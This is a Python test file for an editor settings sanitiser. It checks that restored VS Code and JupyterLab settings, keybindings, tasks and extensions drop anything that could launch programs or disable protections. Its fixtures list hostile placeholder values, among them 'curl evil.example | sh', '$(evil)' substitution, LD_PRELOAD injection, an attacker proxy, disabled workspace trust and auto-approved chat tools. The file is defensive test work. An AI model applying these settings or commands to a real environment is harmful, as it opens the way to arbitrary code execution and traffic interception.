"""What comes back of saved settings: nothing that names a program, and nothing that takes a guard away."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from gitsession.editor import archive, settings
from gitsession.editor.carried import harmless
from gitsession.editor.server import Layout

HOSTILE = {
    "git.path": "/content/drive/MyDrive/git",
    "terminal.integrated.profiles.linux": {"bash": {"path": "sh", "args": ["-c", "evil"]}},
    "terminal.integrated.automationProfile.linux": {"path": "evil"},
    "terminal.integrated.defaultProfile.linux": "evil",
    "terminal.integrated.shellArgs.linux": ["-c", "evil"],
    "terminal.integrated.env.linux": {"LD_PRELOAD": "evil"},
    "python.defaultInterpreterPath": "evil",
    "python.envFile": "evil",
    "python.testing.pytestArgs": ["-p", "evil"],
    "python.venvPath": "evil",
    "jupyter.runStartupCommands": ["import evil"],
    "ruff.interpreter": ["evil"],
    "pylint.importStrategy": "../evil",
    "go.alternateTools": {"go": "evil"},
    "rust-analyzer.server.path": "evil",
    "clangd.path": "evil",
    "cmake.configureEnvironment": {"CC": "evil"},
    "latex-workshop.latex.tools": [{"name": "x", "command": "evil"}],
    "code-runner.executorMap": {"python": "evil $fullFileName"},
    "emeraldwalk.runonsave": {"commands": [{"match": ".*", "cmd": "evil"}]},
    "triggerTaskOnSave.tasks": {"evil": ["*"]},
    "some.setting": "curl evil.example | sh",
    "some.other": "$(evil)",
    "some.third": "${env:HOME}",
    "some.list": ["plain", "/tmp/evil"],
    "some.nested": {"deep": [{"deeper": {"command": "evil"}}]},
    "some.recipes": [{"key": "x", "command": "evil"}],
    "shortcuts": [{"keys": ["A"], "command": "console:inject", "args": {"code": "evil"}}],
    "some.backslash": "C:\\evil",
    "task.allowAutomaticTasks": "on",
    "security.workspace.trust.enabled": False,
    "security.workspace.trust.banner": "never",
    "remote.autoForwardPorts": True,
    "http.proxy": "http://evil.example",
    "http.proxyStrictSSL": False,
    "extensions.verifySignature": False,
    "extensions.autoInstallDependencies": True,
    "extensions.gallery": {"serviceUrl": "evil"},
    "chat.mcp.autostart": "always",
    "chat.tools.autoApprove": True,
    "mcp": {"servers": {"evil": {"command": "evil"}}},
    "launch": {"configurations": [{"program": "evil"}]},
    "typescript.tsdk": "evil",
    "workbench.externalBrowser": "evil",
}
HARMLESS = {
    "editor.fontSize": 15,
    "editor.fontFamily": "'Fira Code', \"Droid Sans Mono\", monospace",
    "editor.rulers": [88, 120],
    "editor.codeActionsOnSave": {"source.organizeImports": "explicit"},
    "[python]": {"editor.defaultFormatter": "charliermarsh.ruff", "editor.formatOnSave": True},
    "files.exclude": {"**/*.pyc": True, "**/node_modules": True},
    "files.associations": {"*.cu": "cpp"},
    "workbench.colorTheme": "Default Dark+",
    "workbench.colorCustomizations": {"editor.background": "#00000080"},
    "python.terminal.activateEnvironment": False,
    "python.analysis.typeCheckingMode": "strict",
    "notebook.lineNumbers": "on",
    "cSpell.words": ["gitsession", "worktree"],
    "files.autoSave": None,
    "shortcuts": [{"keys": ["A"], "command": "notebook:run-cell", "selector": ".jp-Notebook[data-x]:focus"}],
}
BAD_KEYS = [
    {"key": "a", "command": "workbench.action.terminal.sendSequence", "args": {"text": "evil\n"}},
    {"key": "b", "command": "runCommands", "args": {"commands": ["evil"]}},
    {"key": "c", "args": "x"},
    "no binding",
]
GOOD_KEYS = [
    {"key": "ctrl+s", "command": "workbench.action.files.saveAll", "when": "editorFocus && !x"},
    {"key": "ctrl+k", "command": "-editor.action.addSelection"},
    {"key": "alt+l", "command": "editor.action.insertSnippet", "args": {"snippet": "lambda $1: $0"}},
]


def sifted(value: object) -> tuple[object, tuple[str, ...]]:
    content, left = harmless(json.dumps(value).encode(), settings.DEFAULTS)
    assert content is not None
    return json.loads(content), left


@pytest.mark.parametrize("name", HOSTILE)
def test_what_could_have_a_program_run_stays_behind(name: str) -> None:
    others = {other: value for other, value in HARMLESS.items() if other != name}
    assert sifted({**others, name: HOSTILE[name]}) == (others, (name,))


@pytest.mark.parametrize("name", HARMLESS)
def test_what_only_shows_or_edits_comes_back(name: str) -> None:
    assert sifted({name: HARMLESS[name]}) == ({name: HARMLESS[name]}, ())


def test_keys_that_type_into_a_terminal_stay_behind() -> None:
    good, left = sifted([*BAD_KEYS, *GOOD_KEYS])
    assert good == GOOD_KEYS
    assert left == ("what a does", "what b does", "what c does", "what some keys do")


def test_our_own_defaults_come_back_and_are_not_told() -> None:
    chosen = {**settings.DEFAULTS, "extensions.autoUpdate": "off"}  # as VS Code rewrites it
    assert sifted(chosen) == (chosen, ())
    assert sifted({"security.workspace.trust.startupPrompt": "/tmp/evil"})[0] == {}


@pytest.mark.parametrize(
    "text", ['{"git.path": "x", "git.path": true}', '{"git.path": true, "git.path": "x"}']
)
def test_a_name_that_is_there_twice_hides_nothing(text: str) -> None:
    assert harmless(text.encode(), ()) == (b"{}\n", ("git.path",))


COMMENTED = """// mine
{
  /* a // font */ "editor.fontFamily": "a, // b", // and so on
  "editor.fontSize": 15,
}
"""


def test_comments_stay_where_nothing_is_left_out_and_hide_nothing() -> None:
    plain = COMMENTED.replace(", // b", "")
    assert harmless(plain.encode(), ()) == (plain.encode(), ())
    assert harmless(COMMENTED.encode(), ()) == (b'{\n  "editor.fontSize": 15\n}\n', ("editor.fontFamily",))
    hidden = plain.replace("/* a // font */", '"git.path": /* x */ "evil",')
    good, left = harmless(hidden.encode(), ())
    assert left == ("git.path",)
    assert good is not None
    assert b"evil" not in good


@pytest.mark.parametrize("content", [b"", b"{", b"\xff", b"3", b'"x"', b"[" * 100_000, b"{'a': 1}", b"{} {}"])
def test_what_does_not_read_does_not_come_back(content: bytes) -> None:
    assert harmless(content, ()) == (None, ())


def test_all_of_it_through_the_vault(sealed: Path) -> None:
    """As somebody else would write it into the folder; tasks are commands and nothing else."""
    forged = sealed / "forged/User"
    (forged / "snippets").mkdir(parents=True)
    (forged / "lab/x").mkdir(parents=True)
    (forged / "settings.json").write_text(
        json.dumps({"git.path": "evil", "editor.fontSize": 15, **settings.ENFORCED})
    )
    (forged / "keybindings.json").write_text(json.dumps([*BAD_KEYS, *GOOD_KEYS]))
    (forged / "tasks.json").write_text('{"tasks": [{"label": "x", "command": "evil"}]}')
    (forged / "snippets/python.json").write_text('{"x": {"prefix": "x", "body": "$(text)"}}')
    (forged / "lab/x/shortcuts.jupyterlab-settings").write_text(
        '{"shortcuts": [{"command": "console:inject", "keys": ["A"], "args": {"code": "evil"}}]}'
    )
    (forged.parent / settings.EXTENSIONS).write_text(
        "ms-python.python\n/tmp/evil.vsix\n--evil.x\nevil.vsix\n"
    )
    digest = archive.pack(forged.parent, sealed / "saved")
    layout = Layout(sealed / "e")
    layout.create()
    back = settings.restore(layout, sealed / "saved", digest)
    written = {path.name: path.read_text() for path in layout.user.rglob("*") if path.is_file()}
    assert set(written) == {
        "settings.json",
        "keybindings.json",
        "python.json",
        "shortcuts.jupyterlab-settings",
    }
    assert not [name for name, text in written.items() if "evil" in text]
    assert back.extensions == ("ms-python.python",)
    assert set(back.left) >= {"git.path", "shortcuts", "what a does"}
    assert not {*back.left} & {*settings.ENFORCED}
